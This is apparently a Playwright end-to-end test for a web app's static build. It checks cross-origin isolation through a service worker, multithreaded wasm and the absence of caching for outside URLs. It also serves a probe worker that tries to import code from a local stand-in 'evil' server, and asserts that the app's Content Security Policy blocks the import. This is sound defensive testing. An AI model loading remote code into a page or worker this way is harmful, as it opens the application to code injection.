/**
 * The production build on a static host that sends no headers at all (as GitHub Pages), under a sub-path, with
 * its service worker (issues 17 and 18): the page becomes cross-origin isolated (the worker adds COOP/COEP and the
 * page reloads once under it) and the lab worker runs wasm with a thread per core; a worker script gets the app's CSP from the service worker, so an off-origin
 * `import()` inside a worker is blocked and never reaches the other server; and a URL outside the build (as a
 * `?model=` target) is not cached: a file fixed on the server is seen at the next fetch.
 * The console is not guarded here: the blocked import is expected to log a CSP violation.
 */
import { createServer, type Server, type ServerResponse } from 'node:http';
import { readFile } from 'node:fs/promises';
import { extname, join, resolve } from 'node:path';
import { expect, test } from '@playwright/test';

const PORT = 4186;
const EVIL_PORT = 4187;
const ROOT = `http://127.0.0.1:${PORT}/lookalike-lab/`;
const DIST = resolve(import.meta.dirname, '..', 'dist');
const TYPES: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.wasm': 'application/wasm',
  '.json': 'application/json',
};

let site: Server;
let evil: Server;
let evilHits = 0;
/** A file outside the build whose content the test changes, as a hosted model would be fixed on the server. */
let hostedText = 'first';

/** A plain static server: files only, no headers beyond Content-Type (what GitHub Pages gives, minus its caching). */
function serve(req: { url?: string }, res: ServerResponse): void {
  const path = decodeURIComponent(new URL(req.url ?? '/', ROOT).pathname);
  if (!path.startsWith('/lookalike-lab/')) {
    res.writeHead(404).end();
    return;
  }
  const rel = path.slice('/lookalike-lab/'.length);
  if (rel === 'hosted.txt') {
    res.writeHead(200, { 'Content-Type': 'text/plain' }).end(hostedText);
    return;
  }
  if (rel === 'probe-worker.js') {
    // A worker that tries to pull code from another origin, as the outside probe did from the lab worker.
    const code = `import('http://127.0.0.1:${EVIL_PORT}/evil.js').then(() => postMessage('loaded'), (e) => postMessage('blocked: ' + e.message));`;
    res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(code);
    return;
  }
  const file = join(DIST, rel === '' ? 'index.html' : rel);
  readFile(file).then(
    (body) => res.writeHead(200, { 'Content-Type': TYPES[extname(file)] ?? 'application/octet-stream' }).end(body),
    () => res.writeHead(404).end(),
  );
}

test.use({ serviceWorkers: 'allow', baseURL: ROOT });

test.beforeAll(async () => {
  site = createServer(serve);
  evil = createServer((_req, res) => {
    evilHits++;
    res
      .writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' })
      .end('postMessage("evil ran")');
  });
  await Promise.all([
    new Promise<void>((r) => site.listen(PORT, '127.0.0.1', r)),
    new Promise<void>((r) => evil.listen(EVIL_PORT, '127.0.0.1', r)),
  ]);
});

test.afterAll(async () => {
  await Promise.all([new Promise((r) => site?.close(r)), new Promise((r) => evil?.close(r))]);
});

test('a header-less static host: isolated under the service worker, workers under the CSP, user URLs never cached', async ({
  page,
}) => {
  await page.goto(`${ROOT}?backend=wasm`);
  // The first load is not isolated (no headers); the service worker takes control and the page reloads once.
  // (An evaluate that meets that reload throws "execution context was destroyed": poll again.)
  await expect.poll(() => page.evaluate(() => crossOriginIsolated).catch(() => false), { timeout: 60_000 }).toBe(true);
  await page.waitForLoadState('load');
  await expect(page.getByRole('status', { name: 'Backend' })).toContainText('Backend:', { timeout: 120_000 });
  expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
  // Isolated by the service worker alone, the lab worker runs multithreaded wasm (issue 17 item 2): its pthread
  // workers' scripts come through the service worker too (vendor/tfjs-wasm/, precached).
  const cores = await page.evaluate(() => navigator.hardwareConcurrency);
  const backendLine = (await page.getByRole('status', { name: 'Backend' }).textContent()) ?? '';
  console.log(`[e2e] ${backendLine} (hardwareConcurrency ${cores})`);
  if (cores >= 2) expect(backendLine).toMatch(new RegExp(`^Backend: wasm · ${Math.min(cores, 8)} threads`));

  const workerSays = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const w = new Worker('./probe-worker.js', { type: 'module' });
        w.onmessage = (e) => resolve(String(e.data));
        w.onerror = (e) => resolve(`error: ${e.message}`);
        setTimeout(() => resolve('no answer'), 10_000);
      }),
  );
  console.log(`[e2e] off-origin import() in a worker: ${workerSays}`);
  expect(workerSays).toMatch(/^blocked/);
  expect(evilHits).toBe(0);

  const fetchText = () => page.evaluate(() => fetch('./hosted.txt?v=1').then((r) => r.text()));
  expect(await fetchText()).toBe('first');
  hostedText = 'fixed';
  expect(await fetchText()).toBe('fixed');
});
